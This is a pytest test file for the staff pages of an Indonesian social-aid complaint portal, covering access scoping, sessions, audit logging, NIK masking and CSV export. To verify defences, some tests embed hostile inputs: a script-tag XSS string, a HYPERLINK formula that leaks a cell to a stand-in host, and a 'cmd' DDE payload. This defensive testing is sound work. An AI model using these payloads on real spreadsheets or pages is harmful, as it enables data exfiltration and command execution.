"""Staff pages: the access matrix, login and sessions, moves over HTTP, exports, audit, accounts."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from PIL import Image
from sqlalchemy import select, update

from portal.extensions import db
from portal.models import AuditEntry, Complaint, Evidence, StaffSession
from portal.services.uploads import clean_image, store_image
from tests.conftest import DESA_A, DESA_B, DESA_C, STRONG_PASSWORD, login, make_complaint, make_staff

ROLES = {
    "desa_a": ("desa", DESA_A),
    "kecamatan": ("kecamatan", "32.04.05"),
    "kabupaten": ("kabupaten", "32.04"),
    "admin": ("admin", None),
}


@pytest.fixture
def world(app, session, vault, tmp_path):
    """Staff of every role and one complaint in DESA_A (with a photo), one in DESA_C."""
    for username, (role, region) in ROLES.items():
        make_staff(session, username.replace("_", "."), role, region)
    inside = make_complaint(session, vault, desa=DESA_A)
    outside = make_complaint(session, vault, desa=DESA_C, subject="Cici Lestari")
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), "navy").save(buffer, "JPEG")
    buffer.seek(0)
    image = clean_image(buffer)
    folder = tmp_path / "uploads"
    app.config["UPLOAD_FOLDER"] = str(folder)
    evidence = {}
    for which, code in (("inside", inside), ("outside", outside)):
        complaint = session.scalars(select(Complaint).where(Complaint.code == code)).one()
        complaint.evidence.append(Evidence(stored_name=store_image(folder, image), content_type=image.content_type,
                                           width=image.width, height=image.height, size_bytes=len(image.data),
                                           sha256=image.sha256))
        session.commit()
        evidence[which] = complaint.evidence[0].id
    session.close()
    return {"inside": inside, "outside": outside, "evidence": evidence}


def as_user(app, username: str):
    client = app.test_client()
    assert login(client, username).status_code == 302
    return client


def routes(world, which: str) -> list[tuple[str, str, dict]]:
    code = world[which]
    return [
        ("GET", f"/staf/aduan/{code}", {}),
        ("POST", f"/staf/aduan/{code}/nik", {}),
        ("GET", f"/staf/aduan/{code}/bukti/{world['evidence'][which]}", {}),
        ("POST", f"/staf/aduan/{code}/pindah", {"to": "ditinjau", "version": "1", "note": ""}),
        ("POST", f"/staf/aduan/{code}/catatan", {"note": "catatan"}),
        ("POST", f"/staf/aduan/{code}/musdes", {"held_on": "2026-11-20", "decision": "disetujui", "note": ""}),
        ("GET", f"/staf/antrian?desa={DESA_A if which == 'inside' else DESA_C}", {}),
        ("GET", f"/staf/antrian.csv?desa={DESA_A if which == 'inside' else DESA_C}", {}),
    ]


# Which users may reach DESA_A's complaint; nobody but the admin reaches DESA_C's.
CAN_SEE = {"desa_a": {"inside"}, "kecamatan": {"inside"}, "kabupaten": {"inside"}, "admin": {"inside", "outside"}}


@pytest.mark.parametrize("username", sorted(ROLES))
@pytest.mark.parametrize("which", ["inside", "outside"])
def test_access_matrix_scope_decides_and_outside_is_404(app, world, username, which):
    client = as_user(app, username.replace("_", "."))
    for method, url, data in routes(world, which):
        response = client.open(url, method=method, data=data)
        response.close()  # a file response holds its file open until closed
        if which in CAN_SEE[username]:
            assert response.status_code in (200, 303), (method, url, response.status_code)
        else:
            assert response.status_code == 404, (method, url, response.status_code)


@pytest.mark.parametrize("url", ["/staf/", "/staf/antrian", "/staf/antrian.csv", "/staf/audit", "/staf/akun",
                                 "/staf/aduan/ADU-0000-0000"])
def test_logged_out_is_sent_to_login(client, url):
    response = client.get(url)
    assert response.status_code == 302 and "/staf/masuk" in response.headers["Location"]


@pytest.mark.parametrize(("username", "status"), [("desa.a", 404), ("kecamatan", 404), ("kabupaten", 200),
                                                    ("admin", 200)])
def test_audit_and_accounts_are_for_kabupaten_and_admin(app, world, username, status):
    client = as_user(app, username)
    assert client.get("/staf/audit").status_code == status
    assert client.get("/staf/akun").status_code == status


def test_unknown_user_and_wrong_password_get_the_same_message(app, world, client):
    unknown = login(client, "siapa", STRONG_PASSWORD)
    wrong = login(client, "desa.a", "salah-kata-sandi-sekali")
    message = "Nama pengguna atau kata sandi salah"
    assert unknown.status_code == wrong.status_code == 200
    assert message in unknown.text and message in wrong.text
    with app.app_context():
        failures = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "masuk_gagal")).all()
        # What was typed for an unknown user is not kept (it may be a password).
        assert sorted(e.username for e in failures) == ["(tidak dikenal)", "desa.a"]


def test_login_rotates_the_session_and_logout_kills_it(app, world):
    client = app.test_client()
    login(client, "desa.a")
    first_cookie = client.get_cookie("session").value
    login(client, "desa.a")  # logging in again: the first session ends on the server
    with app.app_context():
        assert db.session.scalar(select(db.func.count()).select_from(StaffSession)) == 1
    assert client.get_cookie("session").value != first_cookie
    client.post("/staf/keluar")
    replay = app.test_client()
    replay.set_cookie("session", first_cookie)
    assert replay.get("/staf/antrian").status_code == 302
    with app.app_context():
        assert db.session.scalar(select(db.func.count()).select_from(StaffSession)) == 0


def test_a_cookie_replayed_after_logout_is_refused(app, world):
    client = app.test_client()
    login(client, "desa.a")
    cookie = client.get_cookie("session").value
    assert client.get("/staf/antrian").status_code == 200
    client.post("/staf/keluar")
    replay = app.test_client()
    replay.set_cookie("session", cookie)
    assert replay.get("/staf/antrian").status_code == 302


def test_idle_sessions_end_after_30_minutes(app, world):
    client = as_user(app, "desa.a")
    with app.app_context():
        db.session.execute(update(StaffSession).values(
            last_seen_at=dt.datetime.now(dt.UTC) - dt.timedelta(minutes=31)))
        db.session.commit()
    assert client.get("/staf/antrian").status_code == 302


def test_moves_over_http_and_a_stale_form_is_told_what_changed(app, world):
    code = world["inside"]
    one, two = as_user(app, "desa.a"), as_user(app, "kecamatan")
    assert one.post(f"/staf/aduan/{code}/pindah", data={"to": "ditinjau", "version": "1"}).status_code == 303
    stale = two.post(f"/staf/aduan/{code}/pindah", data={"to": "disembunyikan", "version": "1", "note": "spam"})
    assert stale.status_code == 409 and "baru saja diubah oleh petugas lain" in stale.text
    assert "Sedang ditinjau" in stale.text  # the new state is shown
    refused = one.post(f"/staf/aduan/{code}/pindah", data={"to": "ditolak", "version": "2", "note": ""})
    assert refused.status_code == 400 and "memerlukan alasan" in refused.text
    forged = one.post(f"/staf/aduan/{code}/pindah", data={"to": "terbang", "version": "2"})
    assert forged.status_code == 400
    done = one.post(f"/staf/aduan/{code}/pindah", data={"to": "ditolak", "version": "2", "note": "Tidak layak."})
    assert done.status_code == 303
    tracked = app.test_client().post("/aduan/lacak", data={"kode": code})
    assert "Ditolak" in tracked.text and "Tidak layak." in tracked.text


def test_complaint_text_is_shown_as_text(app, session, vault, world):
    complaint = session.scalars(select(Complaint).where(Complaint.code == world["inside"])).one()
    complaint.description = "<script>alert('x')</script> rumah mewah"
    session.commit()
    session.close()
    page = as_user(app, "desa.a").get(f"/staf/aduan/{world['inside']}").text
    assert "<script>alert" not in page and "&lt;script&gt;" in page


def test_nik_is_masked_until_revealed_and_the_reveal_is_logged(app, world):
    client = as_user(app, "desa.a")
    page = client.get(f"/staf/aduan/{world['inside']}").text
    assert "3204054103850001" not in page and "3204********0001" in page
    revealed = client.post(f"/staf/aduan/{world['inside']}/nik").text
    assert "3204054103850001" in revealed
    with app.app_context():
        entry = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "nik_dibuka")).one()
        assert entry.target == world["inside"] and "3204054103850001" not in str(entry.detail)


def test_evidence_is_served_privately_and_logged(app, world):
    response = as_user(app, "desa.a").get(f"/staf/aduan/{world['inside']}/bukti/{world['evidence']['inside']}")
    assert response.status_code == 200 and response.mimetype == "image/jpeg"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"].startswith("inline")
    response.close()
    with app.app_context():
        assert db.session.scalars(select(AuditEntry).where(AuditEntry.action == "bukti_dilihat")).one()


def test_export_is_scoped_masked_excel_friendly_and_logged(app, world, session, vault):
    make_complaint(session, vault, desa=DESA_B, subject="Bayu Lestari")
    session.close()
    response = as_user(app, "kecamatan").get("/staf/antrian.csv")
    body = response.data.decode("utf-8")
    assert body.startswith("\ufeff") and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows[0][0] == "kode" and len(rows) == 3  # DESA_A and DESA_B, not DESA_C
    assert world["outside"] not in body
    assert "3204054103850001" not in body and "3204********0001" in body
    assert as_user(app, "desa.a").get(f"/staf/antrian.csv?desa={DESA_C}").status_code == 404
    with app.app_context():
        assert db.session.scalars(select(AuditEntry).where(AuditEntry.action == "ekspor")).first()


def test_queue_warns_from_14_days(app, session, vault, world):
    session.execute(update(Complaint).where(Complaint.code == world["inside"]).values(
        created_at=dt.datetime.now(dt.UTC) - dt.timedelta(days=15)))
    session.commit()
    session.close()
    page = as_user(app, "desa.a").get("/staf/antrian").text
    assert "lewat 14 hari" in page and world["inside"] in page


def test_kabupaten_creates_and_disables_accounts_inside_its_scope(app, world):
    client = as_user(app, "kabupaten")
    created = client.post("/staf/akun", data={"username": "op.baru", "role": "desa", "region": DESA_B})
    password = re.search(r"<code>([^<]+)</code>", created.text).group(1)
    assert login(app.test_client(), "op.baru", password).status_code == 302
    outside = client.post("/staf/akun", data={"username": "op.luar", "role": "desa", "region": DESA_C})
    assert "tidak berwenang" in outside.text
    assert client.post("/staf/akun/op.baru/nonaktif").status_code == 303
    assert login(app.test_client(), "op.baru", password).status_code == 200
    assert client.post("/staf/akun/admin/nonaktif").status_code == 404
    assert client.post("/staf/akun/kabupaten/nonaktif").status_code == 404  # never oneself
    assert client.get("/staf/akun").status_code == 200
    undotted = client.post("/staf/akun", data={"username": "op.dua", "role": "desa", "region": DESA_B.replace(".", "")})
    assert "op.dua" in undotted.text and "<code>" in undotted.text
    with app.app_context():
        actions = {e.action for e in db.session.scalars(select(AuditEntry))}
        assert {"akun_dibuat", "akun_nonaktif", "masuk"} <= actions


def test_command_line_accounts(app, runner, world):
    created = runner.invoke(args=["staff", "create", "op.cli", "--role", "desa", "--region", DESA_B.replace(".", "")])
    assert created.exit_code == 0, created.output
    password = re.search(r": (\S+)$", created.output.strip()).group(1)
    assert login(app.test_client(), "op.cli", password).status_code == 302
    weak = runner.invoke(args=["staff", "create", "op.x", "--role", "desa", "--region", "99.99"])
    assert weak.exit_code != 0 and "tidak cocok" in weak.output
    reset = runner.invoke(args=["staff", "reset-password", "op.cli"])
    assert reset.exit_code == 0 and login(app.test_client(), "op.cli", password).status_code == 200
    assert runner.invoke(args=["staff", "disable", "op.cli"]).exit_code == 0


def test_a_staff_nik_given_on_the_command_line_blocks_acting_on_own_complaints(app, runner, world):
    created = runner.invoke(args=["staff", "create", "op.nik", "--role", "desa", "--region", DESA_A, "--nik"],
                            input="3204054103850001\n")
    assert created.exit_code == 0, created.output
    password = re.search(r": (\S+)$", created.output.strip()).group(1)
    client = app.test_client()
    login(client, "op.nik", password)
    page = client.get(f"/staf/aduan/{world['inside']}").text  # filed with that NIK as complainant
    assert "Tidak ada perubahan status yang dapat Anda lakukan" in page
    refused = client.post(f"/staf/aduan/{world['inside']}/pindah", data={"to": "ditinjau", "version": "1"})
    assert refused.status_code == 400 and "menyangkut diri Anda sendiri" in refused.text


def test_registry_matches_and_related_complaints_stay_inside_the_scope(app, session, vault, world, tmp_path):
    from portal.services.registry_import import import_registry
    from tests.conftest import TODAY, make_row, write_csv

    far_away = make_row(7, desa=DESA_C, name="Orang Kupang")
    import_registry(session, vault, write_csv(tmp_path / "r.csv", [far_away]), imported_by="t", period="2025-Q4",
                    today=TODAY)
    session.commit()  # the import flushes; its command commits
    complaint = session.scalars(select(Complaint).where(Complaint.code == world["inside"])).one()
    complaint.subject_nik_hash = vault.digest(far_away["nik"])  # a complaint naming a NIK registered elsewhere
    session.commit()
    session.close()
    page = as_user(app, "desa.a").get(f"/staf/aduan/{world['inside']}").text
    assert "Orang Kupang" not in page
    assert "Orang Kupang" in as_user(app, "admin").get(f"/staf/aduan/{world['inside']}").text


def test_export_neutralises_spreadsheet_formulas(app, session, world):
    complaint = session.scalars(select(Complaint).where(Complaint.code == world["inside"])).one()
    complaint.description = '=HYPERLINK("http://contoh.invalid/?"&A2,"Klik")'
    session.commit()
    session.close()
    body = as_user(app, "desa.a").get("/staf/antrian.csv").data.decode("utf-8")
    assert "'=HYPERLINK" in body


FORMULA_STARTS = ("=", "+", "-", "@")


def test_export_quotes_every_field_and_no_separator_starts_a_live_formula(app, session, world):
    """A spreadsheet that splits on `;` (Indonesian Excel does) must not meet `=cmd` in a cell."""
    complaint = session.scalars(select(Complaint).where(Complaint.code == world["inside"])).one()
    complaint.description = "Rumah bagus ;=cmd|' /C calc'!A0, -2+3\n@SUM(A1)\t=1"
    session.commit()
    session.close()
    body = as_user(app, "desa.a").get("/staf/antrian.csv").data.decode("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body)))
    assert "Rumah bagus ;'=cmd|' /C calc'!A0, '-2+3\n'@SUM(A1)\t'=1" in rows[1]
    rewritten = io.StringIO()
    csv.writer(rewritten, quoting=csv.QUOTE_ALL).writerows(rows)
    assert body == rewritten.getvalue()  # every field, numbers too, in quotes
    for separator in (";", ",", "\t"):
        for line in body.splitlines():
            for piece in line.split(separator):
                assert not piece.lstrip(' "').startswith(FORMULA_STARTS), (separator, piece)


@pytest.mark.parametrize("query", ["umur=1000000", "umur=²", "hal=²", "hal=-1", "status=terbang"])
def test_odd_queue_parameters_never_give_a_500(app, world, query):
    client = as_user(app, "desa.a")
    assert client.get(f"/staf/antrian?{query}").status_code in (200, 400)
    response = client.get(f"/staf/antrian.csv?{query}")
    assert response.status_code in (200, 400)
    response.get_data()


def test_musdes_outcome_with_minutes_photo_is_recorded_and_served_in_scope(app, world):
    buffer = io.BytesIO()
    Image.new("RGB", (50, 40), "white").save(buffer, "PNG")
    client = as_user(app, "desa.a")
    code = world["inside"]
    posted = client.post(f"/staf/aduan/{code}/musdes", content_type="multipart/form-data", data={
        "held_on": "2026-11-20", "decision": "disetujui", "note": "Disetujui musdes.",
        "minutes": (io.BytesIO(buffer.getvalue()), "berita-acara.png")})
    assert posted.status_code == 303
    page = client.get(f"/staf/aduan/{code}").text
    link = re.search(r'href="(/staf/aduan/[^"]+/berita-acara/\d+)"', page).group(1)
    photo = client.get(link)
    assert photo.status_code == 200 and photo.mimetype == "image/jpeg"  # re-encoded: no transparency
    photo.close()
    assert as_user(app, "desa.a").get(link.replace(code, world["outside"])).status_code == 404
    tracked = app.test_client().post("/aduan/lacak", data={"kode": code}).text
    assert "Musyawarah desa 2026-11-20: disetujui" in tracked


def test_a_failed_login_gets_a_summary_and_an_error_title(app, world, client):
    from tests.routes.error_summary import has_summary, summary_links

    assert not has_summary(client.get("/staf/masuk").text)
    wrong = login(client, "desa.a", "salah-kata-sandi-sekali")
    assert summary_links(wrong.text) == [("password", "Nama pengguna atau kata sandi salah.")]


def test_staff_forms_that_come_back_summarise_their_errors(app, world):
    from tests.routes.error_summary import summary_links

    client = as_user(app, "desa.a")
    code = world["inside"]
    empty_note = client.post(f"/staf/aduan/{code}/catatan", data={"note": ""})
    assert summary_links(empty_note.text) == [("catatan-internal", "Tulis catatannya.")]
    rejected = client.post(f"/staf/aduan/{code}/pindah", data={"to": "ditolak", "version": "1", "note": ""})
    assert [target for target, _ in summary_links(rejected.text)] == ["catatan-status"]
    outside = as_user(app, "kabupaten").post("/staf/akun", data={"username": "op.luar", "role": "desa",
                                                                "region": DESA_C})
    assert [target for target, _ in summary_links(outside.text)] == ["username"]


# -- what the screens say ---------------------------------------------------------------------


def test_the_queue_names_each_desa_with_its_code_beside_it(app, world):
    page = as_user(app, "kecamatan").get("/staf/antrian").text
    assert f'<td>Cileunyi Kulon <small class="region-code">{DESA_A}</small></td>' in page
    assert "<td>Sanggah (penerima tidak layak)</td>" in page and "<td>Diterima</td>" in page
    assert "<td>sanggah</td>" not in page and "<td>diterima</td>" not in page
    # The header says whose screen this is in words.
    assert 'Kecamatan · Cileunyi <small class="region-code">32.04.05</small>' in page
    admin = as_user(app, "admin").get("/staf/antrian").text
    assert re.search(r"<span>admin \(.*?\)</span>", admin).group(0) == "<span>admin (Admin · seluruh Indonesia)</span>"
    assert f"Namosain <small class=\"region-code\">{DESA_C}</small>" in admin


def test_the_queue_filter_picks_a_desa_of_the_scope_by_name(app, world):
    client = as_user(app, "kecamatan")
    page = client.get("/staf/antrian").text
    picker = re.search(r'<select id="f-desa" name="desa">(.*?)</select>', page, re.S).group(1)
    assert '<optgroup label="Kecamatan Cileunyi">' in picker
    assert re.findall(r'<option value="([\d.]+)" >', picker) == [
        "32.04.05.2005", "32.04.05.2006", DESA_A, DESA_B, "32.04.05.2003", "32.04.05.2004"]  # by name
    assert f'<option value="{DESA_A}" >Cileunyi Kulon</option>' in picker
    assert DESA_C not in picker and "Kode desa" not in page
    chosen = client.get(f"/staf/antrian?desa={DESA_B}").text
    assert f'<option value="{DESA_B}" selected>Cileunyi Wetan</option>' in chosen
    assert world["inside"] not in chosen  # its complaint is in DESA_A
    # The whole country is too many for a list: the admin types a code, or a name that is searched.
    admin = as_user(app, "admin")
    by_code = admin.get(f"/staf/antrian?desa={DESA_C}").text
    assert f'<input id="f-desa" name="desa" value="{DESA_C}"' in by_code and "Dipilih: Namosain." in by_code
    one = admin.get("/staf/antrian?desa=namosain&jenis=sanggah")
    assert one.status_code == 302 and one.headers["Location"] == f"/staf/antrian?desa={DESA_C}&jenis=sanggah"
    several = admin.get("/staf/antrian?desa=cileunyi").text
    assert "Pilih desanya:" in several and f'href="/staf/antrian?desa={DESA_A}">Cileunyi Kulon</a>' in several
    assert world["inside"] in several and world["outside"] in several  # no desa chosen yet: all of them
    assert 'href="/staf/antrian.csv"' in several
    assert "Tidak ada desa/kelurahan dengan nama itu" in admin.get("/staf/antrian?desa=xqzt").text


def test_the_spam_move_says_what_it_does_and_the_public_sees_it_closed(app, world):
    client = as_user(app, "desa.a")
    code = world["inside"]
    page = client.get(f"/staf/aduan/{code}").text
    assert f'Desa Cileunyi Kulon <small class="region-code">{DESA_A}</small>' in page
    buttons = dict(re.findall(r'<button type="submit" name="to" value="(\w+)"[^>]*>([^<]+)</button>', page))
    assert buttons == {"ditinjau": "Mulai tinjau", "disembunyikan": "Sembunyikan (spam)"}
    assert "aduan keluar dari antrian dan tidak dihitung di statistik" in page
    assert "Ubah ke:" not in page and "Ditutup" not in page.split('name="to"')[1]
    assert client.post(f"/staf/aduan/{code}/pindah",
                       data={"to": "disembunyikan", "version": "1", "note": "Iklan"}).status_code == 303
    hidden = client.get(f"/staf/aduan/{code}").text
    assert "<strong>Disembunyikan (spam)</strong>" in hidden
    assert re.findall(r'name="to" value="(\w+)"[^>]*>([^<]+)<', hidden) == [("ditinjau", "Kembalikan ke antrian")]
    assert code not in client.get("/staf/antrian").text
    tracked = app.test_client().post("/aduan/lacak", data={"kode": code}).text
    assert "Ditutup" in tracked and "spam" not in tracked


def test_the_audit_log_and_accounts_name_their_regions(app, world):
    client = as_user(app, "kabupaten")
    client.get(f"/staf/antrian.csv?desa={DESA_A}").close()
    audit = client.get("/staf/audit").text
    assert f'<td>Cileunyi Kulon <small class="region-code">{DESA_A}</small></td>' in audit
    accounts = client.get("/staf/akun").text
    assert '<td>Kabupaten Bandung <small class="region-code">32.04</small></td>' in accounts


def test_the_export_writes_kinds_and_states_in_words(app, world):
    body = as_user(app, "desa.a").get("/staf/antrian.csv").data.decode("utf-8")
    row = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))[1]
    assert row[1:5] == ["Sanggah (penerima tidak layak)", "Diterima", DESA_A, "Cileunyi Kulon"]
    english = as_user(app, "desa.a")
    english.set_cookie("bahasa", "en")
    assert "Objection" in english.get("/staf/antrian.csv", headers={"Accept-Language": "en"}).data.decode()
